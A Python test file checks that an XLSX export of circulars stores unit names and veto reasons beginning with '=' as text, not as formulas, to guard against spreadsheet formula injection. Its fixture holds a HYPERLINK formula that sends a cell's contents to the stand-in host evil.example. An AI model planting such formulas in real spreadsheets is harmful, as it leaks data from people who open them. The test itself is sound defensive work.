"""The XLSX keeps text as text (issue #9 item 11): a unit name, veto reason or comment that
starts with ``=`` is written as a string, never as a formula the office's Excel would run."""

from __future__ import annotations

import copy
from io import BytesIO
from typing import Any
from zipfile import ZipFile

from openpyxl import load_workbook

from jobs.circulars.xlsx import render_xlsx

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_text_that_looks_like_a_formula_stays_text(circular_doc: dict[str, Any]) -> None:
    doc = copy.deepcopy(circular_doc)
    unit = doc["ranking"]["units"][0]
    unit["name"] = FORMULA
    doc["vetoes"][0]["reason"] = "=1+1"
    content = render_xlsx(doc)

    with ZipFile(BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert not any(b"<f>" in archive.read(n) for n in sheets)  # no formula anywhere
    wb = load_workbook(BytesIO(content))
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert FORMULA in values and "=1+1" in values
    kinds = {c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert "f" not in kinds
